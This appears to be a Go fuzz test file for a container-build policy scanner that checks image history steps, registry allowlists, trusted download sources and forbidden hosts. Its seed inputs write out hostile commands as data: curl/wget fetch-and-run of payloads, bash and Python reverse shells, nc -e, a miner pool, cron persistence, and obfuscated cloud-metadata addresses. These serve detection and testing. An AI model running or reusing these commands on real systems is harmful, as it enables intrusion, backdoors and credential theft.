package policy

import (
	"fmt"
	"net/netip"
	"path"
	"strings"
	"testing"
	"time"
	"unicode"

	"buildguard.dev/buildguard/internal/forbidden"
)

// FuzzAnalyzeStep checks that any history entry is analysed without a
// panic, deterministically, and into well-formed findings.
func FuzzAnalyzeStep(f *testing.F) {
	for _, s := range []string{
		"RUN /bin/sh -c wget -q http://203.0.113.9/payload -O /usr/bin/p && chmod +x /usr/bin/p # buildkit",
		`RUN /bin/sh -c sh -c "$(curl -fsSL https://evil.example/i.sh)" # buildkit`,
		"/bin/sh -c #(nop) ADD http://203.0.113.9/x.tgz /opt/",
		`RUN ["/bin/sh","-c","curl -s http://203.0.113.7/a | bash"]`,
		"RUN |2 A=1 B=2 /bin/sh -c echo aGk= | base64 -d | sh # buildkit",
		"RUN /bin/sh -c bash <(wget -qO- http://[2001:db8::1]:80/i) # buildkit",
		"|2 A=x y B=${A:-http://203.0.113.9} /bin/bash -o pipefail -c curl -O $B/p",
		`/bin/sh -c u=http://203.0.113.9; case $x in a) u=$'\x68ttp://h';; esac; for h in $u a; do wget "${h%%/*}"; done`,
		"RUN /bin/sh -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1 # buildkit",
		`RUN /bin/sh -c python3 -c 'import socket,pty;s=socket.socket();s.connect(("198.51.100.7",7678));pty.spawn("sh")' # buildkit`,
		"RUN /bin/sh -c cat > /x <<'EOF'\nnc -e /bin/sh 198.51.100.7 1\nEOF\n # buildkit",
		`/bin/sh -c #(nop)  CMD ["/bin/sh" "-c" "./a -o pool.example.net:3333"]`,
		`RUN /bin/sh -c { echo "curl http://203.0.113.9/x | sh"; } > /etc/cron.d/j; echo $(( 1 + $((2)) )) ${#x} ${x/a/b} # buildkit`,
	} {
		f.Add(s)
	}
	trusted := trustedForTest(f)
	f.Fuzz(func(t *testing.T, step string) {
		got := AnalyzeStep(step, trusted)
		again := AnalyzeStep(step, trusted)
		if fmt.Sprint(got) != fmt.Sprint(again) {
			t.Fatalf("AnalyzeStep(%q) not deterministic: %v then %v", step, got, again)
		}
		seen := map[string]bool{}
		for _, fd := range got {
			if fd.Kind == "" || fd.Detail == "" {
				t.Fatalf("AnalyzeStep(%q): finding without kind or detail: %+v", step, fd)
			}
			if strings.IndexFunc(fd.Host, unicode.IsSpace) >= 0 {
				t.Fatalf("AnalyzeStep(%q): host %q has white space", step, fd.Host)
			}
			if len(fd.URL) > maxURLBytes {
				t.Fatalf("AnalyzeStep(%q): URL of %d bytes", step, len(fd.URL))
			}
			key := string(fd.Kind) + "\x00" + fd.Host + "\x00" + fd.URL
			if seen[key] {
				t.Fatalf("AnalyzeStep(%q): duplicate finding %+v", step, fd)
			}
			seen[key] = true
		}
	})
}

// FuzzImageReference checks that any image string in a pod spec is
// judged without a panic, that an image outside registries.allow is
// always reported and never looked up, and that the verdict is complete.
func FuzzImageReference(f *testing.F) {
	for _, s := range []string{
		"nginx", "ghcr.io/acme/shop:1.4", "ghcr.io/acme/shop@sha256:" + strings.Repeat("a", 64),
		"169.254.169.254/x:1", "[fd00:ec2::254]:5000/x", "ghcr.io/acme/Shop::1", "localhost:5000/a/b/c:tag@sha256:00", "",
	} {
		f.Add(s)
	}
	p, err := Compile(Spec{Registries: Registries{Allow: []string{"ghcr.io/acme/*"}}})
	if err != nil {
		f.Fatal(err)
	}
	now := time.Date(2026, 11, 26, 12, 0, 0, 0, time.UTC)
	f.Fuzz(func(t *testing.T, image string) {
		v := Decide(p, Facts{Now: now, Containers: []Container{{Name: "c", Kind: KindContainer, Image: image}}})
		if len(v.Images) != 1 || v.Images[0].Image != image {
			t.Fatalf("Decide(%q) = %+v, want one image verdict for it", image, v)
		}
		if !strings.HasPrefix(strings.ToLower(image), "ghcr.io/acme/") && v.Outcome != OutcomeDeny {
			t.Fatalf("Decide(%q) = %s, want deny for an image outside registries.allow", image, v.Outcome)
		}
		for _, fd := range v.Images[0].Findings {
			if fd.Rule == "" || fd.Message == "" || fd.Action == "" {
				t.Fatalf("Decide(%q): incomplete finding %+v", image, fd)
			}
		}
	})
}

// FuzzAnalyzeHistory checks that any history (entries separated by
// "\x1e") and config environment are analysed without a panic,
// deterministically, into reports of real steps with well-formed findings.
func FuzzAnalyzeHistory(f *testing.F) {
	for _, s := range [][2]string{
		{"ENV U=http://203.0.113.9/a\x1eRUN /bin/sh -c wget -O /opt/a $U # buildkit\x1eRUN /bin/sh -c chmod +x /opt/a # buildkit", "PATH=/bin"},
		{"/bin/sh -c #(nop) WORKDIR /opt\x1e|1 V=1 /bin/sh -c curl -fsSLO https://evil.example/a\x1e/bin/sh -c #(nop)  CMD [\"./a\"]", "POOL=stratum+tcp://p.example:1"},
		{"ADD http://203.0.113.9/t /usr/bin/t # buildkit\x1eRUN /bin/sh -c mv /usr/bin/t /t; /t # buildkit", ""},
		{"ONBUILD RUN /bin/sh -c curl http://203.0.113.9 | sh\x1eARG A\x1eENV A B C", "A"},
	} {
		f.Add(s[0], s[1])
	}
	trusted := trustedForTest(f)
	f.Fuzz(func(t *testing.T, history, env string) {
		var h []History
		for _, s := range strings.Split(history, "\x1e") {
			h = append(h, History{CreatedBy: s})
		}
		if len(h) > 64 {
			h = h[:64]
		}
		cfg := RunConfig{Env: strings.Split(env, "\x1e"), Cmd: strings.Fields(env)}
		got := AnalyzeHistory(h, cfg, trusted)
		again := AnalyzeHistory(h, cfg, trusted)
		if fmt.Sprint(got) != fmt.Sprint(again) {
			t.Fatalf("AnalyzeHistory not deterministic: %v then %v", got, again)
		}
		for _, r := range got {
			if r.Index != ConfigStep && (r.Index < 0 || r.Index >= len(h)) || len(r.Findings) == 0 || len(r.Findings) > maxStepFindings {
				t.Fatalf("AnalyzeHistory: bad report %+v", r)
			}
			for _, fd := range r.Findings {
				if fd.Kind == "" || fd.Detail == "" || len(fd.URL) > maxURLBytes || strings.IndexFunc(fd.Host, unicode.IsSpace) >= 0 {
					t.Fatalf("AnalyzeHistory: malformed finding %+v", fd)
				}
				if fd.CrossStep && (fd.FetchedIn < 0 || fd.FetchedIn >= r.Index) {
					t.Fatalf("AnalyzeHistory: cross-step finding of step %d fetched in step %d", r.Index, fd.FetchedIn)
				}
			}
		}
	})
}

// FuzzParseSources checks that any trustedSources entry compiles or is
// refused with an error naming it, and that a URL prefix never trusts a
// path that escapes it.
func FuzzParseSources(f *testing.F) {
	for _, s := range [][3]string{
		{"github.com/tianon/gosu/releases/", "github.com", "/tianon/gosu/releases/download/1.17/gosu"},
		{"github.com/tianon/gosu/releases/", "github.com", "/tianon/gosu/releases/../../evil/x"},
		{"*.example.com/a", "b.example.com", "/a%2f../x"},
		{"10.0.0.0/8", "10.1.2.3", "/"},
		{"[::1]", "::1", "/x"},
	} {
		f.Add(s[0], s[1], s[2])
	}
	f.Fuzz(func(t *testing.T, entry, host, urlPath string) {
		s, err := ParseSources([]string{entry})
		if err != nil {
			if !strings.HasPrefix(err.Error(), "[0] ") {
				t.Fatalf("ParseSources(%q) error %q does not name the entry", entry, err)
			}
			return
		}
		if !s.TrustedURL(host, urlPath) || s.Trusted(host) {
			return
		}
		// Trusted by a prefix only: the decoded, cleaned path is inside it.
		p, ok := cleanURLPath(urlPath)
		if !ok {
			t.Fatalf("TrustedURL(%q, %q) under %q: trusted a path that does not clean", host, urlPath, entry)
		}
		prefix := strings.TrimSuffix(path.Clean("/"+strings.SplitN(entry, "/", 2)[1]), "/")
		if p != prefix && !strings.HasPrefix(p, prefix+"/") {
			t.Fatalf("TrustedURL(%q, %q) under %q: %q escapes the prefix", host, urlPath, entry, p)
		}
	})
}

// FuzzForbiddenHost checks that any host is judged without a panic, and
// that every way of writing an IPv4 address that inet_aton accepts —
// decimal, octal, hex, one to four parts, a trailing dot, a port — is
// judged as the address itself.
func FuzzForbiddenHost(f *testing.F) {
	for _, s := range []string{"169.254.169.254", "2852039166:80", "0xa9fea9fe", "0251.0376.0251.0376.", "[fe80::1%25eth0]:5000", "[64:ff9b::a9fe:a9fe]", "metadata.", "08.1.2.3", "0x"} {
		f.Add(s, uint32(0xa9fea9fe), uint8(0))
	}
	f.Fuzz(func(t *testing.T, host string, v uint32, form uint8) {
		if ForbiddenHost(host) != ForbiddenHost(host) {
			t.Fatalf("ForbiddenHost(%q) not deterministic", host)
		}
		b := [4]uint32{v >> 24, v >> 16 & 0xff, v >> 8 & 0xff, v & 0xff}
		num := func(n uint32, base uint8) string {
			switch base % 3 {
			case 1:
				return fmt.Sprintf("0%o", n)
			case 2:
				return fmt.Sprintf("0x%x", n)
			}
			return fmt.Sprint(n)
		}
		var s string
		switch form % 4 {
		case 0:
			s = num(v, form/4)
		case 1:
			s = num(b[0], form/4) + "." + num(v&0xffffff, form/12)
		case 2:
			s = num(b[0], form/4) + "." + num(b[1], form/12) + "." + num(v&0xffff, form/36)
		case 3:
			s = num(b[0], form/4) + "." + num(b[1], form/12) + "." + num(b[2], form/36) + "." + num(b[3], form/108)
		}
		if form&0x80 != 0 {
			s += ".:8443"
		}
		addr := netip.AddrFrom4([4]byte{byte(b[0]), byte(b[1]), byte(b[2]), byte(b[3])})
		if got, want := ForbiddenHost(s), forbidden.Addr(addr); got != want {
			t.Fatalf("ForbiddenHost(%q) = %v, forbidden.Addr(%s) = %v", s, got, addr, want)
		}
	})
}
